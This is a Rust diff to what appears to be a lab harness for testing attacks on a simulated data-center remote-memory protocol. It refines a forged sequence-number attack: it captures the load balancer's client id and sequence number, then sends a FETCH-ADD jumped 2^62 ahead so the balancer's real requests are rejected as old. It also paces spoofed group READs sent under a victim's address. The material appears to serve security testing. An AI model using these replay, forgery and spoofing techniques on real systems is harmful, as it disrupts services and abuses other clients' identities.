@@ -36,6 +36,13 @@ pub const CAS_LOOP: usize = 200;
 pub const FADD_DELTA: u64 = 1_000_000;
 /// The value the attacker writes into the role words: no site the data-center serves.
 const ATTACKER_ROLE: u64 = 0x0000_bad0_0000_0666;
+/// How far ahead of the balancer's captured sequence number the forged one is: half
+/// of the range a wrapping comparison calls "later", so the server takes it as the
+/// newest and every real request after it as old.
+const SEQ_JUMP: u64 = 1 << 62;
+/// The group READs' pace: one per millisecond (the monitor's own period), so the
+/// replies are counted, not lost in a burst.
+const GROUP_READ_GAP: Duration = Duration::from_millis(1);
 /// Group READs sent with the victim's address.
 pub const GROUP_READS: u64 = 100;
 /// Bytes each group READ asks for (a region's load record and more).
@@ -54,8 +61,9 @@ pub struct RmemCapture {
     pub read_key: Option<u64>,
     /// The key of a captured WRITE, CAS or FETCH-ADD (the balancer's).
     pub rw_key: Option<u64>,
-    /// The balancer's client id.
+    /// The balancer's client id, and the sequence number of its last captured request.
     pub client: Option<u64>,
+    pub client_seq: Option<u64>,
     /// Captured CAS requests to b0, in order.
     pub cas: Vec<Packet>,
     /// Requests captured in all.
@@ -77,7 +85,10 @@ pub fn capture(s: &Sniffer, px: Ipv4Addr, b0: Ipv4Addr) -> RmemCapture {
             Some(Op::Read) => c.read_key = c.read_key.or(Some(h.key)),
             Some(op) => {
                 c.rw_key = c.rw_key.or(Some(h.key));
-                c.client = c.client.or(Some(h.client));
+                if c.client.is_none() || c.client == Some(h.client) {
+                    c.client = Some(h.client);
+                    c.client_seq = Some(h.seq);
+                }
                 if op == Op::CompareSwap && p.dst == b0 {
                     c.cas.push(p);
                 }
@@ -328,19 +339,17 @@ pub fn replay_cas(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Resul
     ))
 }
 
-/// A FETCH-ADD of 0 under the balancer's client id with a sequence number near the
-/// top: does the balancer's next operation still pass?
+/// A FETCH-ADD of 0 under the balancer's client id with a sequence number far ahead
+/// of its captured one ([`SEQ_JUMP`]): does the balancer's next operation still pass?
 pub fn huge_seq(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
-    let (Some(client), Some(_)) = (cap.client, cap.rw_key.or(cap.read_key)) else {
+    let (Some(client), Some(seq), Some(_)) =
+        (cap.client, cap.client_seq, cap.rw_key.or(cap.read_key))
+    else {
         return Ok(Outcome::untested("no balancer request was captured"));
     };
     let s = attacker_socket(dc)?;
-    let mut h = header(
-        cap,
-        Op::FetchAdd,
-        layout::W_BALANCER_HEARTBEAT,
-        u64::MAX - 1,
-    );
+    let forged = seq.wrapping_add(SEQ_JUMP);
+    let mut h = header(cap, Op::FetchAdd, layout::W_BALANCER_HEARTBEAT, forged);
     h.client = client;
     let mut sent = (0, 0);
     let r = op(&s, dc.region_addr(B0), h, &0u64.to_le_bytes(), &mut sent);
@@ -351,9 +360,8 @@ pub fn huge_seq(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<
     Ok(outcome(
         failed,
         format!(
-            "forged seq {} for the balancer's client id (reply: {}); the balancer's next \
-             operation: {}",
-            u64::MAX - 1,
+            "forged seq {forged:#x} (captured {seq:#x} + 2^62) for the balancer's client id \
+             (reply: {}); the balancer's next operation: {}",
             r.map_or("none".into(), |(h, _)| h.status.name().to_string()),
             match next {
                 Ok(_) => "ok".to_string(),
@@ -403,6 +411,7 @@ pub fn group_read(dc: &Dc, cap: &RmemCapture, sniff: &Sniffer) -> io::Result<Out
             SocketAddrV4::new(GROUP, REGION_PORT),
             &req,
         ))?;
+        std::thread::sleep(GROUP_READ_GAP);
     }
     std::thread::sleep(REPLY_WAIT);
     let replies = sniff.matching(|p| {
